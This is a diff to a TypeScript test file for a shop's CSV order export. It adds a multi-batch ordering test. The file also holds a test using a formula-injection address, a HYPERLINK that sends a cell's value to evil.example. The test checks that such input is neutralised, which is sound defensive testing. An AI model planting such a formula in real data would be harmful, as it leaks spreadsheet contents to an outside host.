@@ -1,5 +1,6 @@
 // GET /api/Orders/export.csv through the real app on a real SQLite file: BOM, header, one row per order line,
-// plain decimals, shop-day range and state filters, batches past the keyset boundary, roles and bad input, and a
+// plain decimals, shop-day range and state filters, batches of orders by key (several of them, ids out of date
+// order: decision 241), roles and bad input, and a
 // shopper's formula-like address written as text (decision 200).
 import { beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
@@ -192,6 +193,75 @@ describe('GET /api/Orders/export.csv', () => {
         .split('\r\n'),
     ).toHaveLength(1);
   });
+
+  it('a period and a state over several batches of orders, ids out of date order: every line once, in id order (decision 241)', async () => {
+    const fresh = await createTestApp();
+    const token = (await createStaff(fresh)).token;
+    // Written in bulk (a few statements, not thousands). Days scrambled against the ids; every 7th order in June
+    // (outside the period), every 11th without lines, every 5th delivered (not asked for).
+    const count = EXPORT_BATCH * 3 + 31;
+    const orders = Array.from({ length: count }, (_, i) => ({
+      order_date: `2026-${i % 7 === 0 ? '06' : '07'}-${String(1 + ((i * 17) % 28)).padStart(2, '0')}T09:00:00.000Z`,
+      status: i % 5 === 0 ? ('delivered' as const) : ('pending' as const),
+      first_name: `N${i}`,
+      last_name: 'Gashi',
+      email: `n${i}@example.com`,
+      phone_number: '+38344111222',
+      address: 'Rruga B 1',
+      city: 'Prishtinë',
+      zip_code: '10000',
+      country_name: 'Kosova',
+      subtotal_cents: 100,
+      shipping_cost_cents: 0,
+      total_cents: 100,
+    }));
+    const made: Array<{ order_id: number; first_name: string }> = [];
+    for (let k = 0; k < count; k += 200)
+      made.push(
+        ...(await fresh.db
+          .insertInto('orders')
+          .values(orders.slice(k, k + 200))
+          .returning(['order_id', 'first_name'])
+          .execute()),
+      );
+    const lines = made.flatMap(({ order_id, first_name }) => {
+      const i = Number(first_name.slice(1));
+      return i % 11 === 0
+        ? []
+        : Array.from({ length: 1 + (i % 3) }, (_, j) => ({
+            order_id,
+            product_name: `P${i}-${j}`,
+            size: 'M',
+            color: 'E zezë',
+            quantity: 1,
+            unit_price_cents: 100,
+            line_total_cents: 100,
+          }));
+    });
+    for (let k = 0; k < lines.length; k += 300)
+      await fresh.db
+        .insertInto('order_details')
+        .values(lines.slice(k, k + 300))
+        .execute();
+    const expected = (
+      await fresh.db
+        .selectFrom('order_details as d')
+        .innerJoin('orders as o', 'o.order_id', 'd.order_id')
+        .select('d.product_name')
+        .where('o.order_date', '>=', '2026-06-30T22:00:00.000Z')
+        .where('o.order_date', '<', '2026-07-31T22:00:00.000Z')
+        .where('o.status', '=', 'pending')
+        .where('o.closed_as', 'is', null)
+        .orderBy('d.order_id')
+        .orderBy('d.order_details_id')
+        .execute()
+    ).map((r) => r.product_name);
+    expect(expected.length).toBeGreaterThan(EXPORT_BATCH * 2);
+    const r = await fresh.request('/api/Orders/export.csv?from=2026-07-01&to=2026-07-31&status=pending', { token });
+    const names = rowsOf(await r.text()).map((x) => x.productName);
+    expect(names).toEqual(expected);
+    expect(new Set(names).size).toBe(names.length);
+  }, 60_000);
 
   it("an anonymous shopper's formula-like address and city reach the spreadsheet as text: one quote in front", async () => {
     const address = '=HYPERLINK("http://evil.example/?x="&A2,"Kliko")';
